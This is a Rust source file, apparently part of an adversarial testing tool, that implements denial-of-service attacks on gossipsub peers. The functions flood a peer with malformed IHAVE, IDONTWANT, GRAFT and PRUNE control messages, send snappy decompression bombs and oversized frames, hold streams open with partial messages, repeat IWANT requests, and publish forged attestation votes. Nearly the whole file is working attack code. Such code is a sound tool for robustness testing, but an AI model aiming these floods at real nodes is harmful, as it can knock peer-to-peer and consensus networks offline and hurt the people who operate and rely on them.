//! Attacks with gossipsub.

use lean_p2p::budget::MAX_WIRE_MESSAGE;
use snap::raw::Encoder;

use super::{Attack, Done};
use crate::raw::{
    Event, Peer, Result,
    connection::varint,
    noise,
    rpc::{BareIds, Control, Exchanged, Graft, Ids, Prune, Published, Rpc, topic},
};

/// The first seed of a peer. No other peer sends the same messages.
fn first_seed() -> u64 {
    u64::from(rand::random::<u32>()) << 16
}

/// The size of a vote.
const VOTE: usize = 3252;

fn compressed(data: &[u8]) -> Vec<u8> {
    // It cannot fail for these sizes.
    Encoder::new().compress_vec(data).unwrap_or_default()
}

fn ids(count: u64, seed: u64) -> Vec<Vec<u8>> {
    (0..count).map(|i| noise(20, seed.wrapping_mul(count) + i)).collect()
}

fn message(attack: Attack, seed: u64) -> Rpc {
    let kind = if seed.is_multiple_of(2) { "block" } else { "attestation" };
    let control = |control: Control| control.into();
    match attack {
        Attack::Ihave => control(Control {
            ihave: (0..4).map(|i| Ids { topic: Some(topic(kind)), ids: ids(700, seed.wrapping_mul(4) + i) }).collect(),
            ..Control::default()
        }),
        Attack::Idontwant => {
            control(Control { idontwant: vec![BareIds { ids: ids(5000, seed) }], ..Control::default() })
        }
        Attack::Grafts => control(Control {
            graft: vec![Graft { topic: Some(topic(kind)) }; 1000],
            prune: vec![Prune { topic: Some(topic(kind)), ..Prune::default() }],
            ..Control::default()
        }),
        Attack::Prunes => {
            let peers = vec![Exchanged { peer: Some(noise(39, seed)), record: Some(noise(300, seed)) }; 100];
            let backoff = Some(if seed.is_multiple_of(3) { u64::MAX } else { seed });
            control(Control {
                prune: vec![Prune { topic: Some(topic(kind)), peers, backoff }; 5],
                graft: vec![Graft { topic: Some(noise(20, seed).iter().map(|byte| *byte as char).collect()) }; 100],
                ..Control::default()
            })
        }
        Attack::Subscriptions if seed.is_multiple_of(3) => {
            Rpc::subscribed((0..100).map(|i| format!("/topic/{seed}/{i}")), seed.is_multiple_of(2))
        }
        Attack::Subscriptions => Rpc::subscribed([topic(kind)].into_iter().cycle().take(100), seed.is_multiple_of(2)),
        Attack::ManyInOne => {
            Rpc { publish: vec![Published { topic: topic(kind), ..Published::default() }; 5000], ..Rpc::default() }
        }
        Attack::NoSnappy => Rpc::published(kind, noise(1000, seed)),
        Attack::Bombs if seed.is_multiple_of(2) => {
            // One message claims four gigabytes; the other expands to more than a block, all zeros.
            Rpc::published(kind, [vec![0xff, 0xff, 0xff, 0xff, 0x0f], noise(100, seed)].concat())
        }
        Attack::Bombs => Rpc::published("block", compressed(&vec![0; MAX_WIRE_MESSAGE + 1])),
        Attack::Signed => {
            let some = |size| Some(noise(size, seed));
            let message = Published {
                from: some(39),
                seqno: some(8),
                signature: some(64),
                key: some(37),
                data: Some(compressed(&noise(VOTE, seed))),
                topic: topic("attestation"),
            };
            Rpc { publish: vec![message], ..Rpc::default() }
        }
        _ => {
            // A well-formed vote of no validator. The bytes after the fields of its signature must be zero.
            let mut vote = noise(VOTE, seed);
            vote.truncate(VOTE - 16);
            vote.extend([0; 16]);
            Rpc::published("attestation", compressed(&vote))
        }
    }
}

/// Sends messages of one kind as fast as possible.
pub async fn flood(attack: Attack, peer: &mut Peer, done: &Done) -> Result<()> {
    for seed in first_seed().. {
        let bytes = message(attack, seed).framed();
        if peer.send(&bytes).await.is_err() {
            peer.begin_again().await?;
        }
        Done::add(&done.messages, 1);
    }
    Ok(())
}

/// Sends IWANT for all known messages, and for unknown ones, again and again.
pub async fn iwant(peer: &mut Peer, done: &Done) -> Result<()> {
    let mut known: Vec<Vec<u8>> = vec![];
    for seed in 0u64.. {
        while let Ok(event) = peer.events.try_recv() {
            if let Event::Item { id } = event {
                known.push(id);
            }
        }
        let wanted = known.iter().rev().take(500).cloned().chain(ids(200, seed)).collect();
        let control = Control { iwant: vec![BareIds { ids: wanted }], ..Control::default() };
        peer.send(&Rpc::from(control).framed()).await?;
        Done::add(&done.messages, 1);
    }
    Ok(())
}

/// Sends messages that are larger than allowed.
pub async fn oversized(peer: &mut Peer, done: &Done) -> Result<()> {
    let filler = vec![0; 1 << 20];
    loop {
        // An error: the other side has given the stream up.
        let _ = peer.send(&varint(17 << 20)).await;
        for _ in 0..17 {
            let _ = peer.send(&filler).await;
        }
        Done::add(&done.messages, 1);
        peer.begin_again().await?;
    }
}

/// Sends the largest message without its last byte, and fills all other streams with bytes that cannot be read yet.
pub async fn in_flight(peer: &mut Peer, done: &Done) -> Result<()> {
    peer.send(&varint(MAX_WIRE_MESSAGE as u64 - 16)).await?;
    // The message has one unknown field.
    peer.send(&[0x7a]).await?;
    peer.send(&varint(MAX_WIRE_MESSAGE as u64 - 22)).await?;
    let filler = vec![0; 1 << 16];
    for _ in 0..MAX_WIRE_MESSAGE / filler.len() - 1 {
        peer.send(&filler).await?;
    }
    Done::add(&done.messages, 1);
    let mut held = vec![];
    loop {
        let (mut send, recv) = peer.connection.open_bi().await?;
        Done::add(&done.streams, 1);
        // The prefix of a negotiation line of 16 kB.
        send.write_all(&[0xff, 0x7f]).await?;
        let filling = tokio::spawn(async move {
            let filler = vec![b'/'; 1 << 16];
            while send.write_all(&filler).await.is_ok() {}
        });
        held.push((filling, recv));
    }
}

/// Sends garbage with a valid length, and invalid lengths.
pub async fn no_messages(peer: &mut Peer, done: &Done) -> Result<()> {
    for seed in 0u64.. {
        let garbage = match seed % 3 {
            0 => vec![0xff; 11],
            1 => [varint(500), noise(500, seed)].concat(),
            _ => noise(5000, seed),
        };
        // An error: the other side has given the stream up.
        let _ = peer.send(&garbage).await;
        Done::add(&done.messages, 1);
        peer.begin_again().await?;
    }
    Ok(())
}
